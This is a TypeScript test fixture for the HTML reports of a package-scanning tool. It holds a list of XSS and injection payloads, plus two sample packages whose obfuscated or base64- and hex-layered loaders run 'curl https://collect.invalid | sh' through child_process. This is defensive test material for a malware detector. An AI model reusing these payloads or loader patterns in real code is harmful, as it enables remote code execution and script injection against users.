/** HTML reports made up for their specs, hostile ones above all. */
import { rules } from '../rules/index.js';
import { skipped as left } from '../src/gaps.js';
import { readMemory } from '../src/read/memory.js';
import { laidOut } from '../src/readable/layout.js';
import type { Texts, View } from '../src/report/formats.js';
import { htmlReport } from '../src/report/html.js';
import { summarise } from '../src/report/rank.js';
import { type Inspected, inspect, type Mark } from '../src/run/inspect.js';
import type { Applied, Report, Rule, SourceFile } from '../src/types.js';
import { finding, location, malicious, report, step } from './report-fabricated.js';

const view = (reports: readonly Report[], fields: Partial<View> = {}): View => ({
  tool: { name: 'stowaway', version: '1.2.3' },
  target: '/home/me/project',
  summary: summarise(reports),
  fails: ({ verdict }) => verdict === 'malicious',
  rules,
  columns: 80,
  colour: false,
  ...fields,
});

export const html = async (reports: readonly Report[], fields: Partial<View> = {}): Promise<string> =>
  htmlReport(reports, view(reports, fields));

/** Texts by which markup, scripts, addresses and objects are broken into, and some that cannot be seen. */
export const HOSTILE = [
  '</script><script>window.broken = 1</script>',
  '"><img src=x onerror="window.broken=1">',
  "'><svg onload=window.broken=1>",
  'javascript:window.broken=1',
  '</style></noscript><body onload=window.broken=1>',
  '<!--<script>',
  ']]>--><iframe srcdoc="<script>parent.broken=1</script>">',
  '__proto__',
  'constructor',
  '${window.broken=1}{{window.broken=1}}',
  'over\u202eride\u0000\u200b\u2028\u001b[2J\ud800',
  '<a href="https://collect.invalid">click</a>',
  '\\u003cimg src=x onerror=window.broken=1\\u003e',
];

/** A package in which all that an attacker can write is one text. */
function hostile(text: string, at: number): Report {
  const here = location(text, 3, 5, { decoder: text, at: location(text, 1, 1) });
  const found = finding({
    rule: text,
    message: text,
    fingerprint: text,
    chain: [
      step({ says: text, excerpt: `${text}\n${text}`, at: here }),
      step({ role: 'source', says: text, excerpt: text }),
    ],
  });
  return malicious(text, {
    package: { name: text, version: text, path: `${text}${at}` },
    score: 99 - at,
    findings: [found],
    accepted: [{ finding: { ...found, moment: 'install' }, reason: text, expires: text }],
    capabilities: ['network', 'files'],
    dependencyPath: [text, text],
    coverage: { files: 2, bytes: 4_000, analysed: 1, skipped: [left('unreadable', text, { why: text })], widened: 1 },
  });
}

export const hostileRules: Record<string, Rule> = Object.fromEntries(
  HOSTILE.map(text => [
    text,
    {
      meta: { summary: text, why: `${text}\n${text}`, behaviour: 'execution', messages: { found: text } },
      examples: { flags: [], passes: [] },
    },
  ]),
);

const acceptance = (text: string) => ({ package: text, rule: text, fingerprint: text, reason: text, expires: text });
export const configuration: Applied = {
  path: HOSTILE.join(' '),
  rules: Object.fromEntries(HOSTILE.map(text => [text, 'off' as const])),
  thresholds: { malicious: 80 },
  overrides: HOSTILE.map(text => ({ name: text, versions: text, rules: { [text]: 2 }, reason: text, packages: 1 })),
  accepted: HOSTILE.length,
  unused: HOSTILE.map(acceptance),
  expired: HOSTILE.map(acceptance),
};

export const hostileReports = HOSTILE.map(hostile);
/** A text as it comes out of an inspection. */
export function opened(file: SourceFile, marks: readonly Mark[]): Inspected {
  const layout = laidOut(file);
  return { file, ...(layout && { readable: layout }), marks };
}

export const hostileTexts: Texts = new Map(
  hostileReports.map(each => {
    const [found] = each.findings;
    const file = { path: each.package.name, text: `${each.package.name}\n`.repeat(3) };
    const layer = { ...file, decodedFrom: { at: location(file.path), decoder: each.package.name } };
    const marks = found ? [{ finding: found, step: 0, start: 0, end: 5 }] : [];
    return [each.package.path, [opened(file, []), { ...opened(layer, marks), host: file }]];
  }),
);

/** A loader in a layer in a file, found as it would be. */
export async function nested() {
  const inner = `require('child_process').exec('curl https://collect.invalid | sh')`;
  const outer = `const run = 1;\neval(Buffer.from('${Buffer.from(inner).toString('hex')}', 'hex').toString());`;
  const file = `// nothing to see\neval(atob('${Buffer.from(outer).toString('base64')}'));\n`;
  const pkg = await readMemory(
    { files: { 'package.json': '{"name":"nested","version":"1.0.0"}', 'index.js': file } },
    {},
    'node_modules/nested',
  );
  const { report: made, texts } = inspect(pkg, rules);
  return { reports: [made, report('other')], texts: new Map([[made.package.path, texts]]), inner };
}

/** A command behind names and numbers, found as it would be. */
export async function obfuscated() {
  const text = `const _0x1a=require('child_process');if(!![]){_0x1a['\\x65\\x78\\x65\\x63']('curl https://collect.invalid | sh')}\n`;
  const pkg = await readMemory(
    { files: { 'package.json': '{"name":"hidden","version":"1.0.0"}', 'index.js': text } },
    {},
    'node_modules/hidden',
  );
  const { report: made, texts } = inspect(pkg, rules);
  return { reports: [made, report('other')], texts: new Map([[made.package.path, texts]]) };
}
